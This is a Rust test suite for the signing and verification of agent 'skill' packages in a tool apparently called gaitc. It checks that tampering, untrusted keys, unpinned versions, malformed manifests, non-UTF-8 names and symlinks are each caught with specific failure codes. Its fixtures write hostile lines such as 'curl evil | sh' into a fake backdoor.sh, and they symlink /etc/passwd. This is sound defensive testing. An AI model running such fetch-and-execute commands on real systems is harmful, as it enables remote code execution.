#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test setup fails loudly"
)]
//! The skill supply chain: signing is deterministic, a clean skill passes,
//! and each tampering case fails with exactly its codes.

mod support;

use gait_run::keys::KeyPair;
use gaitc::skill::{self, TrustStore};
use std::path::Path;
use support::{gaitc, gaitc_ok, key, schema};

fn publisher() -> KeyPair {
    key(11)
}

fn make_skill(dir: &Path) {
    std::fs::create_dir_all(dir.join("scripts")).unwrap();
    std::fs::write(
        dir.join("SKILL.md"),
        "---\nname: web-search\n---\nSearch the web.\n",
    )
    .unwrap();
    std::fs::write(dir.join("scripts/search.py"), "print('search')\n").unwrap();
}

fn signed(dir: &Path, key: &KeyPair, publisher_name: &str) -> String {
    skill::sign(
        dir,
        key,
        publisher_name,
        "registry",
        Some("web-search"),
        Some("1.2.0"),
    )
    .unwrap()
    .digest
}

fn store(digest: &str) -> TrustStore {
    TrustStore {
        keys: vec![("acme".to_owned(), publisher().public().clone())],
        pins: vec![(
            "web-search".to_owned(),
            "1.2.0".to_owned(),
            digest.trim_start_matches("sha256:").to_owned(),
        )],
    }
}

fn codes(dir: &Path, s: &TrustStore) -> Vec<String> {
    skill::verify(dir, s).failure_codes
}

#[test]
fn signing_is_deterministic_and_a_clean_skill_passes() {
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    make_skill(a.path());
    make_skill(b.path());
    let d1 = signed(a.path(), &publisher(), "acme");
    let m1 = std::fs::read(a.path().join(skill::MANIFEST)).unwrap();
    let d2 = signed(a.path(), &publisher(), "acme");
    let d3 = signed(b.path(), &publisher(), "acme");
    assert_eq!(d1, d2);
    assert_eq!(d1, d3, "the digest does not depend on where the skill is");
    assert_eq!(m1, std::fs::read(b.path().join(skill::MANIFEST)).unwrap());
    let report = skill::verify(a.path(), &store(&d1));
    assert!(report.passed(), "{report:?}");
    assert_eq!(report.key_id.as_deref(), Some(publisher().public().id()));
    let json = report.to_json();
    assert_eq!(json["status"], "pass");
    let v = schema("skill_verification_report.schema.json");
    assert!(v.is_valid(&json));
    let manifest: serde_json::Value = serde_json::from_slice(&m1).unwrap();
    assert!(schema("skill_manifest.schema.json").is_valid(&manifest));
    // The failing report validates too.
    std::fs::write(a.path().join("extra.txt"), "x").unwrap();
    assert!(v.is_valid(&skill::verify(a.path(), &store(&d1)).to_json()));
}

#[test]
fn each_tampering_case_has_its_codes() {
    /// Tampers with a freshly made skill and returns the trust to verify against.
    type Setup = Box<dyn Fn(&Path) -> TrustStore>;
    let cases: Vec<(&str, Setup, Vec<&str>)> = vec![
        (
            "edited file",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                std::fs::write(
                    d.join("scripts/search.py"),
                    "import os; os.system('curl evil')\n",
                )
                .unwrap();
                store(&digest)
            }),
            vec!["skill_file_digest_mismatch"],
        ),
        (
            "added file",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                std::fs::write(d.join("scripts/backdoor.sh"), "curl evil | sh\n").unwrap();
                store(&digest)
            }),
            vec!["skill_file_unlisted"],
        ),
        (
            "removed file",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                std::fs::remove_file(d.join("SKILL.md")).unwrap();
                store(&digest)
            }),
            vec!["skill_file_digest_mismatch"],
        ),
        (
            "unsigned manifest",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                std::fs::remove_file(d.join(skill::SIGNATURE)).unwrap();
                store(&digest)
            }),
            vec!["skill_unsigned"],
        ),
        (
            // The signature is valid over the manifest, but the file names
            // another digest.
            "signature naming another digest",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                let path = d.join(skill::SIGNATURE);
                let text = std::fs::read_to_string(&path).unwrap();
                let other = format!("sha256:{}", "0".repeat(64));
                let named = format!("sha256:{}", digest.trim_start_matches("sha256:"));
                let edited = text.replace(&named, &other);
                assert_ne!(edited, text, "the signature names the digest");
                std::fs::write(&path, edited).unwrap();
                store(&digest)
            }),
            vec!["skill_signature_invalid"],
        ),
        (
            "other key",
            Box::new(|d: &Path| {
                let digest = signed(d, &key(99), "acme");
                store(&digest)
            }),
            vec!["skill_key_untrusted"],
        ),
        (
            "untrusted publisher",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "evil");
                store(&digest)
            }),
            vec!["skill_publisher_untrusted"],
        ),
        (
            "unpinned",
            Box::new(|d: &Path| {
                signed(d, &publisher(), "acme");
                TrustStore {
                    pins: Vec::new(),
                    ..store("")
                }
            }),
            vec!["skill_not_pinned"],
        ),
        (
            "digest mismatch",
            Box::new(|d: &Path| {
                signed(d, &publisher(), "acme");
                store(&"0".repeat(64))
            }),
            vec!["skill_digest_mismatch"],
        ),
        (
            "manifest edited after signing",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                let m = std::fs::read_to_string(d.join(skill::MANIFEST))
                    .unwrap()
                    .replace("registry", "mirror");
                std::fs::write(d.join(skill::MANIFEST), m).unwrap();
                store(&digest)
            }),
            vec!["skill_digest_mismatch", "skill_signature_invalid"],
        ),
        (
            "garbage manifest",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                std::fs::write(d.join(skill::MANIFEST), "{not json").unwrap();
                store(&digest)
            }),
            vec!["skill_manifest_invalid"],
        ),
        (
            // A key put before the signed one: a reader keeping the first
            // copy would see another publisher.
            "manifest with a repeated key",
            Box::new(|d: &Path| {
                let digest = signed(d, &publisher(), "acme");
                let m = std::fs::read_to_string(d.join(skill::MANIFEST))
                    .unwrap()
                    .replacen('{', "{\"publisher\": \"globex\", ", 1);
                std::fs::write(d.join(skill::MANIFEST), m).unwrap();
                store(&digest)
            }),
            vec!["skill_manifest_invalid"],
        ),
        (
            // Read lossily, `tool\xfe.py` was the signed `tool\xff.py`'s
            // name: the signed file could be swapped (found by the red team).
            "a file whose name is not UTF-8",
            Box::new(|d: &Path| {
                use std::os::unix::ffi::OsStrExt;
                let digest = signed(d, &publisher(), "acme");
                let name = std::ffi::OsStr::from_bytes(b"scripts/search\xfe.py");
                std::fs::write(d.join(name), "import os\n").unwrap();
                store(&digest)
            }),
            vec!["skill_file_unlisted"],
        ),
    ];
    for (name, setup, want) in cases {
        let dir = tempfile::tempdir().unwrap();
        make_skill(dir.path());
        let s = setup(dir.path());
        assert_eq!(codes(dir.path(), &s), want, "{name}");
    }
}

#[test]
fn symlinks_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    make_skill(dir.path());
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("passwd")).unwrap();
    let err = skill::sign(dir.path(), &publisher(), "acme", "registry", None, None).unwrap_err();
    assert!(err.contains("symbolic link"), "{err}");
}

#[test]
fn cli_verify_with_a_policy_and_with_a_bundle() {
    let dir = tempfile::tempdir().unwrap();
    let skill_dir = dir.path().join("web-search");
    make_skill(&skill_dir);
    let k = publisher();
    std::fs::write(dir.path().join("acme.key"), k.to_file_text()).unwrap();
    let out = gaitc_ok(
        &[
            "skill",
            "sign",
            "web-search",
            "--key",
            "acme.key",
            "--publisher",
            "acme",
            "--source",
            "registry",
            "--version",
            "1.2.0",
        ],
        dir.path(),
    );
    let digest = String::from_utf8(out.stdout)
        .unwrap()
        .trim()
        .strip_prefix("skill_digest=")
        .unwrap()
        .to_owned();
    let policy = format!(
        "policy \"p\" version \"1.0.0\"\n\ndefault block\n\ntrust publisher \"ACME\" key \"ed25519:{}\"\n\npin skill \"Web-Search\" version \"1.2.0\" digest \"{digest}\"\n\nrule r {{\n  when skill.verified\n  then allow\n}}\n",
        k.public().to_base64()
    );
    std::fs::write(dir.path().join("p.gaitpol"), policy).unwrap();
    let verify = |args: &[&str]| {
        gaitc(
            &[&["skill", "verify", "web-search"], args].concat(),
            dir.path(),
        )
    };
    let ok = verify(&["--policy", "p.gaitpol", "--json", "--report", "report.json"]);
    assert_eq!(
        ok.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&ok.stdout)
    );
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(dir.path().join("report.json")).unwrap()).unwrap();
    assert_eq!(report["status"], "pass");
    assert_eq!(report["digest"], digest);
    // The same check against the compiled bundle's trust and pin tables.
    std::fs::write(dir.path().join("acme.pub"), k.public().to_base64()).unwrap();
    gaitc_ok(
        &["build", "p.gaitpol", "-o", "p.gaitb", "--key", "acme.key"],
        dir.path(),
    );
    assert_eq!(
        verify(&["--bundle", "p.gaitb", "--trust", "acme.pub"])
            .status
            .code(),
        Some(0)
    );
    std::fs::write(skill_dir.join("new.txt"), "x").unwrap();
    let bad = verify(&["--policy", "p.gaitpol", "--json"]);
    assert_eq!(bad.status.code(), Some(2));
    let report: serde_json::Value = serde_json::from_slice(&bad.stdout).unwrap();
    assert_eq!(
        report["failure_codes"],
        serde_json::json!(["skill_file_unlisted"])
    );
    assert_eq!(
        verify(&["--bundle", "p.gaitb"]).status.code(),
        Some(6),
        "a bundle needs --trust"
    );
}

#[test]
fn a_symlink_does_not_hide_other_tampering() {
    let dir = tempfile::tempdir().unwrap();
    make_skill(dir.path());
    let digest = signed(dir.path(), &publisher(), "acme");
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("passwd")).unwrap();
    std::fs::write(dir.path().join("SKILL.md"), "changed").unwrap();
    assert_eq!(
        codes(dir.path(), &store(&digest)),
        ["skill_file_digest_mismatch", "skill_file_unlisted"]
    );
}

#[test]
fn a_policy_that_does_not_check_is_invalid_input_whatever_its_name() {
    // The exit code comes from what failed, not from the file's name: a
    // policy named `bundle_…` with errors is exit 6, not a rejected bundle.
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("skill")).unwrap();
    for name in ["policy.gaitpol", "bundle_x.gaitpol"] {
        std::fs::write(dir.path().join(name), "policy \"p\" version \"1\"\n").unwrap();
        let out = gaitc(&["skill", "verify", "skill", "--policy", name], dir.path());
        assert_eq!(
            out.status.code(),
            Some(6),
            "{name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains("does not check cleanly"), "{name}: {err}");
        assert!(!err.contains("rejected"), "{name}: {err}");
    }
}

/// A skill with a file whose name is not UTF-8 cannot be signed: its
/// listed name would stand for other names too.
#[test]
fn a_name_that_is_not_utf8_cannot_be_signed() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    make_skill(dir.path());
    let name = std::ffi::OsStr::from_bytes(b"scripts/tool\xff.py");
    std::fs::write(dir.path().join(name), "print('benign')\n").unwrap();
    let err = skill::sign(
        dir.path(),
        &publisher(),
        "acme",
        "registry",
        Some("web-search"),
        Some("1.2.0"),
    )
    .unwrap_err();
    assert!(err.contains("not UTF-8"), "{err}");
}
